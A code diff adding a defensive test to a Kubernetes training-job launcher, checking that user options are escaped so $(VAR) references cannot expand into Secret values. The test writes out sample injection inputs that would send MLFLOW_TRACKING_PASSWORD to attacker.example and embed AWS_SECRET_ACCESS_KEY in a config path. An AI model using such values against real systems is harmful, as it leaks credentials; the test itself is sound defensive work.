@@ -385,6 +385,24 @@ def test_launcher_creates_the_runs_trainjob_waits_and_outputs_the_run_id(tmp_pat
     assert len(kube.created) == 1 and not kube.deleted and "exists" in again.stdout
 
 
+def test_the_users_words_reach_the_trainer_as_typed_and_never_expand_a_secret(tmp_path, kube, compiled):
+    """Kubernetes replaces $(VAR) in a container's args with the container's environment, which
+    holds the Secret's MLFLOW_TRACKING_PASSWORD: opts such as `TRAIN.WEIGHTS
+    https://attacker/$(MLFLOW_TRACKING_PASSWORD)` would send it out. Every $ of the user's words
+    is doubled (Kubernetes reads $$ as one $); torchrun's own $(PET_NNODES) still expands. Found by
+    the red team of 2026-12-03."""
+    opts = "TRAIN.WEIGHTS https://attacker.example/$(MLFLOW_TRACKING_PASSWORD) NAME 'cost $$5'"
+    run, _ = launch(tmp_path, compiled, opts=opts, config="/app/$(AWS_SECRET_ACCESS_KEY).yaml")
+    assert run.returncode == 0, run.stderr
+    args = kube.created[0]["spec"]["trainer"]["args"]
+    assert args[args.index("--opts") + 1] == opts.replace("$", "$$")
+    assert args[args.index("--config") + 1] == "/app/$$(AWS_SECRET_ACCESS_KEY).yaml"
+    assert any("$(PET_NNODES)" in a and "$$" not in a for a in args)
+    # What the container then gets, Kubernetes' expansion: $$ -> $, $(VAR) -> its value
+    expanded = [re.sub(r"\$\$|\$\((\w+)\)", lambda m: "$" if m.group(0) == "$$" else "<expanded>", a) for a in args]
+    assert expanded[args.index("--opts") + 1] == opts and "<expanded>" not in " ".join(expanded[args.index("--config"):])
+
+
 def test_launcher_retry_recreates_a_failed_trainjob(tmp_path, kube, compiled):
     kube.progress = ["Failed"]
     first, out = launch(tmp_path, compiled)
